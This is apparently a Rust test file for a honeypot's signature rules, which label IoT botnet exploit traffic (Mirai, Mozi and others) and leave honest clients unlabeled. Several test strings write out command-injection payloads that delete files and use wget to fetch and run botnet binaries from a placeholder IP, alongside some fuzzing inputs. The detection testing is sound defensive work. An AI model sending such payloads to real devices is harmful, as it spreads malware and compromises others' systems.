//! Every rule of contrib/signatures.toml, on payloads that it is for and on those that only look like it.

use std::collections::BTreeSet;

use honeyxdp_signatures::{Confidence, Dropper, Label, Rule, Rules, Tool};

use crate::payloads::{BENIGN, cases};

fn shown(payload: &[u8]) -> String {
    String::from_utf8_lossy(payload).escape_debug().to_string()
}

/// Ids of the rules that labelled a payload.
fn ids<'r>(label: &Label<'r>) -> [Option<&'r str>; 2] {
    [label.exploit, label.family].map(|found| found.map(|found| found.rule.id.as_str()))
}

#[test]
fn every_rule_has_payloads_that_it_labels_and_payloads_that_it_does_not() {
    let rules = Rules::own().unwrap();
    let cases = cases();
    for Rule { id, .. } in rules.exploits().iter().chain(rules.families()) {
        let of_rule: Vec<_> = cases.iter().filter(|case| case.rule == id).collect();
        let [case] = of_rule[..] else { panic!("{id} needs one case in tests/payloads") };
        assert!(!case.hits.is_empty() && !case.misses.is_empty(), "{id} needs payloads for both");
    }
    for case in &cases {
        for payload in &case.hits {
            assert!(ids(&rules.label(payload)).contains(&Some(case.rule)), "{}: {}", case.rule, shown(payload));
        }
        for payload in &case.misses {
            assert!(!ids(&rules.label(payload)).contains(&Some(case.rule)), "{}: {}", case.rule, shown(payload));
        }
    }
}

#[test]
fn an_exploit_alone_and_a_dropper_alone_are_no_family() {
    let rules = Rules::own().unwrap();
    let exploits: BTreeSet<_> = rules.exploits().iter().map(|rule| rule.id.as_str()).collect();
    for case in cases().iter().filter(|case| exploits.contains(case.rule)) {
        for payload in &case.hits {
            let label = rules.label(payload);
            assert!(label.family.is_none(), "{:?} by {}", ids(&label), shown(payload));
        }
    }
}

#[test]
fn honest_clients_get_no_label() {
    let rules = Rules::own().unwrap();
    for (name, payload) in BENIGN {
        let label = rules.label(payload);
        assert_eq!((ids(&label), &label.dropper), ([None, None], &None), "{name}");
    }
}

#[test]
fn a_payload_that_is_cut_off_keeps_what_its_beginning_says() {
    let rules = Rules::own().unwrap();
    let whole =
        b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/Mozi.a;sh+/tmp/Mozi.a HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n";
    let at = |needle: &str| shown(whole).find(needle).unwrap();
    for length in 0..=whole.len() {
        let label = rules.label(&whole[..length]);
        assert_eq!(label.exploit.is_some(), length > at("?"), "{length}");
        assert_eq!(label.dropper.is_some(), length > at("192.0.2.1"), "{length}");
        assert_eq!(label.family.is_some(), length > at("Mozi.a") + 5, "{length}");
    }
}

#[test]
fn a_label_says_which_rule_and_where() {
    let rules = Rules::own().unwrap();
    let label = rules
        .label(b"POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget+http://192.0.2.1:81/bins/mirai.arm");
    let (exploit, family) = (label.exploit.unwrap(), label.family.unwrap());
    assert_eq!(
        (exploit.rule.name.as_str(), exploit.regions.to_string()),
        ("EDB-48225", "method, uri, body".to_owned())
    );
    assert_eq!((family.rule.name.as_str(), family.regions.to_string()), ("mirai", "file".to_owned()));
    assert_eq!(family.rule.confidence, Confidence::B);
    let (host, path, file) = ("192.0.2.1".to_owned(), "/bins/mirai.arm".to_owned(), "mirai.arm".to_owned());
    assert_eq!(label.dropper, Some(Dropper { tool: Tool::Wget, host, port: Some(81), path, file }));
}

#[test]
fn the_most_precise_rule_goes_first() {
    let rules = Rules::own().unwrap();
    // Mozi's requests have a user agent of Mirai's.
    let mozi = b"GET /shell?wget+http://192.0.2.1/Mozi.m HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n";
    assert_eq!(ids(&rules.label(mozi)), [Some("EDB-41471/1"), Some("mozi/1")]);
    assert_eq!(rules.exploits().last().unwrap().id, "dropper/1", "it says less than all others");
}

#[test]
fn rules_of_one_name_are_of_one_kind_and_have_a_source() {
    let rules = Rules::own().unwrap();
    let names = |rules: &[Rule]| rules.iter().map(|rule| rule.name.clone()).collect::<BTreeSet<_>>();
    assert!(names(rules.exploits()).is_disjoint(&names(rules.families())));
    let families: Vec<_> = names(rules.families()).into_iter().collect();
    assert_eq!(families, ["hajime", "mirai", "mozi", "qbot"]);
}

#[test]
fn hostile_payloads_are_only_bytes() {
    let rules = Rules::own().unwrap();
    let deep = [&b"<a>".repeat(100_000)[..], b"${IFS", &b"$(".repeat(100_000), &b"&amp;".repeat(100_000)].concat();
    for payload in [
        &b"GET /<script>alert(1)</script>\x1b[2J\x07\0 HTTP/1.1\r\nUser-Agent: \xff\xfe\xc3\x28\r\n\r\n\x80"[..],
        &b"%".repeat(10_000),
        &b"%0".repeat(10_000),
        &b"A".repeat(100_000),
        &b"GET ".repeat(10_000),
        &b"GET /".repeat(10_000),
        b"GET / HTTP/1.1",
        b"\r\n\r\n\r\n",
        b"\xff\xff\xff\xff",
        &deep,
    ] {
        assert_eq!(ids(&rules.label(payload)), [None, None]);
    }
    // Text of an attacker goes through as it is, and comes to no end.
    let label = rules.label(b"wget http://192.0.2.1/\x1b[2J<b>\xc3\xa4\xff;");
    assert_eq!(label.dropper.unwrap().path, "/\u{1b}[2J");
    let long = [&b"wget http://192.0.2.1/"[..], &b"a".repeat(100_000)].concat();
    assert_eq!(rules.label(&long).dropper.unwrap().file.len(), honeyxdp_signatures::LONGEST);
}
